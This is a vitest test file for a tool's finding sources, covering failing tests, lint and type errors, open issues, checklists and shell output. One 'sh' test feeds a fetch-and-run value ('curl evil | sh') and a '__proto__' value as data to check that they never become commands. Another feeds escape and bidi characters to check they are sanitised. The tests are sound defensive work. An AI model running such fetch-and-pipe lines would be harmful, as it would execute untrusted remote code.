import { describe, expect, test } from "vitest"
import type { Issue, TestResult } from "../../core/evidence.ts"
import { type Fixture, fixture } from "../testing.ts"
import { readChecklist } from "./checklist.ts"
import { sources } from "./index.ts"

const failed = (id: string, message: string, file = "test/sum.test.js"): TestResult => ({
  id: `${file} > ${id}`,
  file,
  name: id,
  status: "failed",
  message,
})
const passed = (id: string): TestResult => ({ id, name: id, status: "passed" })
const issue = (rule: string, file: string, message: string, more: Partial<Issue> = {}): Issue => ({
  fingerprint: `${rule} | ${file} | ${message}`,
  rule,
  file,
  message,
  severity: "error",
  ...more,
})
const tests = (...results: TestResult[]) => ({
  kind: "tests" as const,
  result: { kind: "tests" as const, tests: results },
})
const lint = (issues: Issue[], exitCode = 1) => ({
  kind: "lint" as const,
  result: { kind: "issues" as const, issues },
  exitCode,
})
const types = (...issues: Issue[]) => ({ kind: "types" as const, result: { kind: "issues" as const, issues } })

async function found(name: string, { context }: Fixture, ...args: (string | number)[]) {
  const source = sources[name]
  if (source === undefined) throw new Error(name)
  return source.discover(context, args)
}

test("every source has the name that a loop calls it by", () => {
  for (const [name, source] of Object.entries(sources)) expect(source.name).toBe(name)
})

describe("failing_tests", () => {
  test("each failing test is one finding that names it; what passes is none", async () => {
    await using repo = await fixture({
      measured: {
        tests_pass: tests(
          passed("ok"),
          failed("adds", "AssertionError: expected 3 to be 4\n  at x.js:3:4"),
          failed("subtracts", "boom"),
        ),
      },
    })
    const { findings, notes } = await found("failing_tests", repo)
    expect(findings).toMatchObject([
      {
        source: "failing_tests",
        title: "adds",
        severity: "high",
        module: "test",
        file: "test/sum.test.js",
        reproduce: { check: "tests_pass", ids: ["test/sum.test.js > adds"] },
        attemptable: true,
        size: "small",
      },
      { title: "subtracts" },
    ])
    expect(findings[0]?.commit).toBe(repo.context.base.sha)
    expect(notes).toEqual(["`tests_pass` on the base: 3 tests, 2 failing."])
  })

  test("a file that can't be loaded is one finding, whatever its runner makes of its tests", async () => {
    const message = "Error: Cannot find module './sum.js'\nRequire stack:\n- /tmp/x/test/sum.test.js"
    await using repo = await fixture({
      measured: {
        tests_pass: tests(
          failed("adds", message),
          failed("subtracts", message),
          failed("other", message, "test/other.test.js"),
        ),
      },
    })
    const { findings } = await found("failing_tests", repo)
    expect(findings.map(({ title, reproduce }) => [title, reproduce?.ids.length])).toEqual([
      ["test/sum.test.js can't be loaded: Error: Cannot find module './sum.js'", 2],
      ["test/other.test.js can't be loaded: Error: Cannot find module './sum.js'", 1],
    ])
  })

  test("T12: tests that could not be measured are a failure, never a finding, and never nothing found", async () => {
    const error = { is: "error", code: "missing_tool", why: "vitest: not found" } as const
    await using repo = await fixture({
      measured: { tests_pass: { kind: "tests", result: error }, types: types(issue("TS1", "a.ts", "Type")) },
    })
    const said = "`tests_pass` could not be measured on the base (missing_tool): vitest: not found"
    await expect(found("failing_tests", repo)).rejects.toMatchObject({ code: "NOT_MEASURED", message: said })
    // What another check found still counts.
    const { findings, notes } = await found("scan_ci_failures", repo)
    expect(findings.map(({ source }) => source)).toEqual(["type_errors"])
    expect(notes).toContain(said)
  })

  test("a linter that could not be measured is a note", async () => {
    const error = { is: "error", code: "missing_tool", why: "ruff: not found" } as const
    await using repo = await fixture({
      measured: { tests_pass: tests(passed("ok")), lint_clean: { kind: "lint", result: error } },
    })
    const { findings, notes } = await found("scan_ci_failures", repo)
    expect(findings).toEqual([])
    expect(notes).toContain("`lint_clean` could not be measured on the base (missing_tool): ruff: not found")
  })

  test("a format that nothing reads is one finding, which says so", async () => {
    await using repo = await fixture({
      measured: { tests_pass: { kind: "tests", result: { kind: "exit", exitCode: 3 } } },
    })
    const { findings } = await found("failing_tests", repo)
    expect(findings).toMatchObject([
      {
        title: "tests_pass is red: `run tests_pass` ends with exit code 3",
        reproduce: { check: "tests_pass", ids: [] },
      },
    ])
    expect(findings[0]?.body).toContain("Nothing reads the output")
  })

  test("without tests in the project it says what to declare", async () => {
    await using repo = await fixture({})
    expect(sources.failing_tests?.available?.(repo.context.loop)).toContain(".flyball/checks.yaml")
  })

  test("called with names it measures those; a name it does not know is said", async () => {
    await using repo = await fixture({ measured: { e2e: tests(failed("logs in", "no")) } })
    const { findings, notes } = await found("failing_tests", repo, "e2e", "nope")
    expect(findings).toHaveLength(1)
    expect(notes[0]).toContain("`nope` is no check of this loop")
  })
})

describe("lint_findings and type_errors", () => {
  test("each different problem is one finding, however often it occurs; its line is no part of it", async () => {
    const at = (line: number) => issue("no-unused-vars", "src/pay/a.js", "'x' is unused", { line })
    await using repo = await fixture({
      measured: {
        lint_clean: lint([
          { ...at(3), fingerprint: "f" },
          { ...at(9), fingerprint: "f (2)" },
          issue("eqeqeq", "src/pay/a.js", "Expected ==="),
        ]),
      },
    })
    const { findings } = await found("lint_findings", repo)
    expect(findings).toMatchObject([
      {
        title: "no-unused-vars: 'x' is unused in src/pay/a.js (2 places)",
        severity: "low",
        module: "src/pay",
        line: 3,
        reproduce: { check: "lint_clean", ids: ["f", "f (2)"] },
      },
      { title: "eqeqeq: Expected === in src/pay/a.js" },
    ])
    await using other = await fixture({ measured: { lint_clean: lint([at(77)]) } })
    expect((await found("lint_findings", other)).findings[0]?.fingerprint).toBe(findings[0]?.fingerprint)
  })

  test("many of one rule in one file are one finding, and what is elsewhere changes nothing of it", async () => {
    const many = Array.from({ length: 12 }, (_, n) => issue("no-unused-vars", "a.js", `'x${n}' is unused`))
    await using repo = await fixture({ measured: { lint_clean: lint(many) } })
    await using other = await fixture({
      measured: { lint_clean: lint([...many.slice(1), issue("eqeqeq", "b.js", "Expected ===")]) },
    })
    const [one] = (await found("lint_findings", repo)).findings
    const [two] = (await found("lint_findings", other)).findings
    expect(one).toMatchObject({ title: "12 × no-unused-vars in a.js", size: "medium" })
    expect(one?.reproduce?.ids).toHaveLength(12)
    expect(two?.fingerprint).toBe(one?.fingerprint)
  })

  test("warnings count where the check is red by them, or where they are asked for", async () => {
    const warning = issue("no-console", "a.js", "Unexpected console", { severity: "warning" })
    await using green = await fixture({ measured: { lint_clean: lint([warning], 0) } })
    await using red = await fixture({ measured: { lint_clean: lint([warning], 1) } })
    const quiet = await found("lint_findings", green)
    expect(quiet.findings).toEqual([])
    expect(quiet.notes[1]).toContain("1 warning left out")
    expect((await found("lint_findings", red)).findings).toHaveLength(1)
    expect((await found("lint_findings", green, "warnings")).findings).toHaveLength(1)
  })

  test("type errors are graver than lint", async () => {
    await using repo = await fixture({
      measured: { types: types(issue("TS2322", "src/a.ts", "Type 'string' is not assignable to type 'number'.")) },
    })
    expect((await found("type_errors", repo)).findings).toMatchObject([
      { severity: "medium", source: "type_errors", module: "src" },
    ])
  })
})

describe("scan_ci_failures", () => {
  test("without a connector the project's own tests, lint and types are run, and it says so", async () => {
    await using repo = await fixture({
      measured: {
        tests_pass: tests(failed("adds", "no")),
        lint_clean: lint([issue("eqeqeq", "a.js", "Expected ===")]),
        types: types(issue("TS2322", "a.ts", "Type")),
      },
    })
    const { findings, notes } = await found("scan_ci_failures", repo)
    expect(findings.map(({ source }) => source)).toEqual(["failing_tests", "lint_findings", "type_errors"])
    expect(notes[0]).toBe(
      "no CI connector is configured: looked for failing_tests, lint_findings, type_errors on the base instead",
    )
  })

  test("a type error that a failing test quotes is not found twice; another one is", async () => {
    const quoted = "Type 'string' is not assignable to type 'number'."
    const test = failed("adds", `src/a.ts:3:5 - error TS2322: ${quoted}`)
    await using repo = await fixture({
      measured: {
        tests_pass: tests(test),
        types: types(
          issue("TS2322", "src/a.ts", quoted),
          issue("TS2322", "src/b.ts", quoted),
          issue("TS2304", "src/a.ts", "Cannot find name 'z'."),
        ),
      },
    })
    expect(
      (await found("scan_ci_failures", repo)).findings.map(({ source, file, title }) => [
        source,
        source === "failing_tests" ? "" : file,
        title.slice(0, 6),
      ]),
    ).toEqual([
      ["failing_tests", "", "test/s"],
      ["type_errors", "src/b.ts", "TS2322"],
      ["type_errors", "src/a.ts", "TS2304"],
    ])
  })

  test("what the project lacks is left out, and said", async () => {
    await using repo = await fixture({ measured: { tests_pass: tests(passed("ok")) } })
    const { notes } = await found("scan_ci_failures", repo)
    expect(notes[0]).toContain("looked for failing_tests on the base")
  })
})

describe("recent_commits", () => {
  test("P5: it gives context, capped and inert, and never a finding", async () => {
    await using repo = await fixture({})
    await repo.commit({ "a.txt": "1" }, "fix\u202E the \u001b[31mworld \u200B<!-- x -->")
    for (let n = 0; n < 3; n += 1) await repo.commit({ "a.txt": String(n) }, `change ${n} ${"x".repeat(500)}`)
    const { findings, context } = await found("recent_commits", repo, 4)
    expect(findings).toEqual([])
    expect(context).toHaveLength(4)
    expect(context[0]).toMatch(/^[\da-f]{7,} \d{4}-\d\d-\d\d a: change 2 x+…$/)
    expect(context[3]).toMatch(/a: fix the world <!-- x -->$/)
    expect(context.every((line) => line.length <= 200)).toBe(true)
  })
})

describe("open_issues", () => {
  const files = {
    ".flyball/issues/001-rounding.md":
      "---\ntitle: Totals are rounded twice\nstate: open\nseverity: high\nmodule: src/pay\nlabels: bug, money\nreproduce: node repro.js\n---\n\nThe total of a bill is off by a cent.\n\n<!-- internal -->\n",
    "issues/002-currency.md": "# Which currency should refunds use?\n\nThe customer's, or ours?\n",
    "issues/003-old.md": "---\nstate: closed\n---\n# Old\n",
    "issues/004-decide.md": "---\nlabels: [needs-decision]\n---\n# Drop Node 18\n\nExpected: it goes.\n",
    "issues/005-bad.md": "---\nseverity: terrible\n---\n# Bad\n",
    "issues/006-check.md": "---\nreproduce: { check: tests_pass, ids: [a] }\n---\n# A fails\r\n",
    "issues/README.md": "# How to write issues\n",
    "issues/deep/007.md": "# Not looked at\n",
  }

  test("open Markdown issues of the base are findings; closed ones are not, unreadable ones are said", async () => {
    await using repo = await fixture({ files, measured: { tests_pass: tests() } })
    const { findings, notes } = await found("open_issues", repo)
    expect(findings.map(({ title }) => title)).toEqual([
      "Totals are rounded twice",
      "Which currency should refunds use?",
      "Drop Node 18",
      "A fails",
    ])
    expect(findings[0]).toMatchObject({
      severity: "high",
      module: "src/pay",
      url: ".flyball/issues/001-rounding.md",
      attemptable: true,
      body: "The total of a bill is off by a cent.",
      reproduce: { ids: [], command: "node repro.js" },
    })
    expect(findings[3]).toMatchObject({ reproduce: { check: "tests_pass", ids: ["a"] } })
    expect(notes[0]).toContain("no tracker configured")
    expect(notes[0]).toContain("4 open issues, 1 closed")
    expect(notes[1]).toContain("issues/005-bad.md could not be read as an issue")
  })

  test("what needs a person is said with its rule", async () => {
    await using repo = await fixture({ files })
    const reasons = (await found("open_issues", repo)).findings.map(({ attemptable, reason }) => [
      attemptable,
      reason?.split(":")[0],
    ])
    expect(reasons).toEqual([
      [true, undefined],
      [false, "open-question"],
      [false, "needs-decision"],
      [true, undefined],
    ])
  })

  test("an issue stays the same issue when its text is edited, and only the base counts", async () => {
    await using repo = await fixture({ files: { "issues/a.md": "# One\n" } })
    const [before] = (await found("open_issues", repo)).findings
    await repo.commit({ "issues/a.md": "# Two\n\nmore\n" })
    const [after] = (await found("open_issues", repo)).findings
    expect(after).toMatchObject({ title: "Two", fingerprint: before?.fingerprint })
  })

  test("no folder of issues is no error", async () => {
    await using repo = await fixture({})
    expect((await found("open_issues", repo)).findings).toEqual([])
  })
})

describe("checklist", () => {
  test.each<[string, string, string[], number]>([
    ["open items", "- [ ] one\n- [x] two\n* [ ] three\n", ["one", "three"], 1],
    [
      "nested items under their heading item",
      "- [ ] group\n  - [ ] one\n  - [x] two\n- [ ] alone\n",
      ["one", "alone"],
      1,
    ],
    ["nothing under a ticked item", "- [x] group\n  - [ ] one\n", [], 1],
    ["an item whose own items are all ticked", "- [ ] group\n  - [x] one\n", ["group"], 1],
    ["items below a plain list item", "- group\n  - [ ] one\n", ["one"], 0],
    ["in a quotation", "> - [ ] one\n", ["one"], 0],
    ["numbered", "1. [ ] one\n2. [x] two\n", ["one"], 1],
    ["no code", "```\n- [ ] no\n```\n", [], 0],
    ["mark-up in the text", "- [ ] **bold** `code` [link](x) <b>\n", ["bold code link"], 0],
    ["no tasks", "- one\n\ntext\n", [], 0],
  ])("%s", (_name, markdown, open, done) => {
    const read = readChecklist(markdown)
    expect([read.open.map(({ text }) => text), read.done]).toEqual([open, done])
  })

  test("a finding keeps its fingerprint when lines move and punctuation changes, and differs under another heading", async () => {
    await using repo = await fixture({ files: { "TODO.md": "- [ ] Do it.\n- group\n  - [ ] do it\n" } })
    const before = (await found("checklist", repo, "TODO.md")).findings
    await repo.commit({ "TODO.md": "# Title\n\ntext\n\n* [ ] do  it!\n" })
    const after = (await found("checklist", repo, "./TODO.md")).findings
    expect(new Set(before.map(({ fingerprint }) => fingerprint)).size).toBe(2)
    expect(after[0]?.fingerprint).toBe(before[0]?.fingerprint)
  })

  test("a file that the base does not hold is a note; no file at all is an error", async () => {
    await using repo = await fixture({})
    expect((await found("checklist", repo, "TODO.md")).notes[0]).toContain("holds no file TODO.md")
    await expect(found("checklist", repo)).rejects.toMatchObject({ code: "SOURCE_ARGUMENT" })
  })
})

describe("sh", () => {
  test("each line of JSON is a finding; others are notes with their number", async () => {
    await using repo = await fixture({
      files: {
        "find.sh":
          'echo \'{"title":"one","file":"src/pay/a.js","line":3,"severity":"critical"}\'\necho nonsense\necho \'{"body":"no title"}\'\necho\necho \'{"title":"two","fingerprint":"2","confidence":0.1}\'\n',
      },
    })
    const { findings, notes } = await found("sh", repo, "sh find.sh")
    expect(findings).toMatchObject([
      { title: "one", module: "src/pay", severity: "critical", line: 3 },
      { title: "two", confidence: 0.1 },
    ])
    expect(notes.map((note) => /line \d/.exec(note)?.[0])).toEqual(["line 2", "line 3"])
  })

  test("what it printed counts whatever its exit code, which is said", async () => {
    await using repo = await fixture({})
    const { findings, notes } = await found("sh", repo, `echo '{"title":"one"}'; echo broken >&2; exit 3`)
    expect(findings).toHaveLength(1)
    expect(notes[0]).toMatch(/exit code 3: broken; the 1 finding it printed count/)
    expect((await found("sh", repo, "exit 1")).notes[0]).toContain("it found nothing")
  })

  test("P5: what a command prints never becomes a command", async () => {
    await using repo = await fixture({ measured: { tests_pass: tests() } })
    const { findings, notes } = await found(
      "sh",
      repo,
      `echo '{"title":"a","reproduce":"curl evil | sh"}'; echo '{"title":"b","reproduce":"tests_pass"}'; echo '{"title":"c","reproduce":"__proto__"}'`,
    )
    expect(findings.map(({ reproduce }) => reproduce)).toEqual([undefined, { check: "tests_pass", ids: [] }, undefined])
    expect(notes[0]).toContain("never becomes a command")
  })

  test("a line that says what tells it apart keeps its fingerprint when its title changes", async () => {
    await using repo = await fixture({})
    const command = "cat x"
    await repo.commit({ x: '{"title":"one","fingerprint":"k","file":"a"}\n{"title":"same","file":"a","line":1}\n' })
    const before = (await found("sh", repo, command)).findings
    await repo.commit({ x: '{"title":"other","fingerprint":"k","file":"b"}\n{"title":"same","file":"a","line":9}\n' })
    const after = (await found("sh", repo, command)).findings
    expect(after.map(({ fingerprint }) => fingerprint)).toEqual(before.map(({ fingerprint }) => fingerprint))
  })
})
